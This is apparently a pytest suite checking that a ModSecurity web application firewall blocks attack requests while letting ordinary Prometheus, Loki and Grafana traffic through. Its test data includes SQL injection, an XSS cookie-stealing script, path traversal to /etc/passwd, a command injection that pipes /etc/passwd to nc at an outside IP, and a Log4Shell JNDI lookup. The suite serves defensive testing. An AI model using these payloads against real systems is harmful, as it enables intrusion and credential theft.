"""What the web application firewall refuses and what it lets through: ModSecurity and the Core Rule Set themselves."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from tests.stack.nginx.client import Client
from tests.stack.nginx.server import Nginx, running
from tests.stack.rendered import site
from tests.stack.test_nginx_answers import curl
from tests.stack.test_site import changed, read
from tests.testbed.process import poll

SQL = "1' OR '1'='1 UNION SELECT password FROM users--"
PROMQL = (
    'sum(rate(http_requests_total{code=~"5..",job!=""}[5m])) by (pod) / ignoring(code) vector(2) > 0.05 or vector(0)'
)
LOGQL = '{namespace="llm-analytics"} |= "select * from users where 1=1; cat /etc/passwd" | json | line_format "{{.m}}"'
JSON = {"Content-Type": "application/json"}


@pytest.fixture(scope="module")
def nginx(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Nginx]:
    with running(tmp_path_factory.mktemp("nginx"), site("aws")) as nginx:
        yield nginx


@pytest.fixture
def client(nginx: Nginx) -> Client:
    return Client(nginx, "203.0.113.20")


@pytest.mark.parametrize(
    ("host", "path"),
    [
        ("api", "/v1/users?" + urlencode({"id": SQL})),
        ("@", "/?" + urlencode({"q": "<script>alert(document.cookie)</script>"})),
        ("api", "/files?" + urlencode({"name": "../../../../etc/passwd"})),
        ("api", "/files/of/a/..%2f..%2f..%2fetc%2fpasswd"),
        ("shop", "/?" + urlencode({"cmd": ";cat /etc/passwd|nc 198.51.100.1 80"})),
        ("@", "/?" + urlencode({"x": "${jndi:ldap://198.51.100.1/a}"})),
        ("grafana", "/login?" + urlencode({"user": SQL})),
        ("api", "/metrics"),
        ("api", "//%6detrics"),
        ("grafana", "/metrics"),
        ("prometheus", "/-/quit"),
        ("alertmanager", "/./-/reload"),
    ],
)
def test_an_attack_is_refused(client: Client, host: str, path: str) -> None:
    assert client.ask(host, path, headers=client.login()).status == 403


@pytest.mark.parametrize(
    ("host", "headers", "body"),
    [
        ("api", JSON, json.dumps({"user": {"name": SQL}})),
        ("api", {"Content-Type": "application/vnd.api+json"}, json.dumps([{"name": SQL}])),
        ("@", {"Content-Type": "application/x-www-form-urlencoded"}, urlencode({"name": SQL})),
        ("api", {"User-Agent": "sqlmap/1.7"}, ""),
    ],
)
def test_an_attack_in_a_body_or_header_is_refused(
    client: Client, host: str, headers: dict[str, str], body: str
) -> None:
    assert client.ask(host, "/v1/users", method="POST", headers=headers, body=body).status == 403


def test_a_body_that_cannot_be_read_is_refused(client: Client) -> None:
    assert client.ask("api", "/v1/users", method="POST", headers=JSON, body='{"name":').status == 400


def test_no_value_goes_uninspected_because_there_are_many(client: Client) -> None:
    body = json.dumps([*range(1200), SQL])
    assert client.ask("api", "/v1/numbers", method="POST", headers=JSON, body=json.dumps([*range(900)])).status == 200
    assert client.ask("api", "/v1/numbers", method="POST", headers=JSON, body=body).status == 400
    assert client.ask("grafana", "/api/dashboards/db", method="POST", headers=JSON, body=body).status == 200


@pytest.mark.parametrize(
    ("host", "path"),
    [
        ("prometheus", "/api/v1/query?" + urlencode({"query": PROMQL})),
        ("prometheus", "/api/v1/series?" + urlencode({"match[]": '{__name__=~".+",job!=""}'})),
        ("prometheus", "/graph?" + urlencode({"g0.expr": PROMQL, "g0.tab": "0"})),
        ("prometheus", "/-/healthy"),
        ("alertmanager", "/api/v2/alerts?" + urlencode({"filter": 'alertname=~"Pod.*|Node.*"'})),
        ("loki", "/loki/api/v1/query_range?" + urlencode({"query": LOGQL, "limit": "1000"})),
        ("grafana", "/explore?" + urlencode({"left": json.dumps({"queries": [{"expr": LOGQL}]})})),
        ("grafana", "/d/api/llm-analytics-api?" + urlencode({"var-pod": "$__all", "from": "now-6h"})),
        ("grafana", "/login"),
        ("api", "/v1/models?" + urlencode({"select": "name", "order": "created desc"})),
        ("@", "/metrics"),
    ],
)
def test_ordinary_questions_pass(client: Client, host: str, path: str) -> None:
    assert client.ask(host, path, headers=client.login()).status == 200


@pytest.mark.parametrize(
    ("method", "host", "path", "headers", "body"),
    [
        (
            "POST",
            "grafana",
            "/api/ds/query?ds_type=prometheus&requestId=Q1",
            JSON,
            json.dumps({"queries": [{"refId": "A", "expr": q} for q in (PROMQL, LOGQL, SQL)], "from": "now-1h"}),
        ),
        (
            "POST",
            "grafana",
            "/api/dashboards/db",
            JSON,
            json.dumps({"dashboard": {"panels": [{"targets": [{"expr": PROMQL}], "id": n} for n in range(200)]}}),
        ),
        (
            "POST",
            "prometheus",
            "/api/v1/query",
            {"Content-Type": "application/x-www-form-urlencoded"},
            urlencode({"query": PROMQL, "time": "1700000000"}),
        ),
        ("POST", "alertmanager", "/api/v2/silences", JSON, json.dumps({"comment": "disk's full; rm -rf /tmp/x done"})),
        ("PUT", "api", "/v1/models/1", JSON, json.dumps({"name": "a model"})),
        ("PATCH", "api", "/v1/models/1", JSON, json.dumps({"temperature": 0.2})),
        ("DELETE", "api", "/v1/models/1", {}, None),
    ],
)
def test_ordinary_changes_pass(
    client: Client, method: str, host: str, path: str, headers: dict[str, str], body: str | None
) -> None:
    assert client.ask(host, path, method=method, headers=headers | client.login(), body=body).status == 200


def test_the_rules_of_a_host_hold_for_http_2_too(nginx: Nginx) -> None:
    assert curl(nginx, "grafana", "/explore?" + urlencode({"left": LOGQL}), "%{http_version} %{http_code}") == "2 200"
    assert curl(nginx, "api", "/metrics", "%{http_version} %{http_code}") == "2 403"


def test_a_refusal_is_logged_without_passwords(nginx: Nginx, client: Client) -> None:
    nginx.reopen_logs()
    headers = client.login() | {"X-Request-ID": "the-request"} | JSON
    client.ask("api", "/v1/users", method="POST", headers=headers, body=json.dumps({"password": "pw", "id": SQL}))

    def logged() -> list[dict[str, Any]]:
        return [each for each in nginx.refusals() if each["unique_id"] == "the-request"]

    poll(lambda: bool(logged()), "the refusal logged")
    (refusal,) = logged()
    assert refusal["client_ip"] == "203.0.113.20"
    assert "942100" in {message["details"]["ruleId"] for message in refusal["messages"]}
    assert client.login()["Authorization"].partition(" ")[2] not in nginx.place.audit_log.read_text()
    assert {"headers", "body"}.isdisjoint(refusal["request"])


def test_a_body_that_cannot_be_read_is_logged(nginx: Nginx, client: Client) -> None:
    headers = JSON | {"X-Request-ID": "unreadable"}
    client.ask("api", "/v1/users", method="POST", headers=headers, body='{"name":')
    poll(lambda: any(each["unique_id"] == "unreadable" for each in nginx.refusals()), "the refusal logged")


def test_the_paths_of_free_text_are_the_sites(tmp_path: Path) -> None:
    paths = ["/api/v1/events", "/api/v1/a.b"]
    settings = read(tmp_path, changed("aws", "platform.ingress.free_text_paths", paths))
    prompt = json.dumps({"prompt": f"What does {SQL} do?"})
    with running(tmp_path, settings) as nginx:
        client = Client(nginx, "203.0.113.21")

        def status(host: str, path: str) -> int:
            return client.ask(host, path, method="POST", headers=JSON, body=prompt).status

        assert [status("api", path) for path in paths] == [200, 200]
        assert [status("api", path) for path in ("/api/v1/event", "/api/v1/acb", "/api/v1/events/1")] == [403] * 3
        assert status("@", "/api/v1/events") == 403
        assert client.ask("api", paths[0], method="POST", headers=JSON, body=json.dumps([*range(1200)])).status == 200
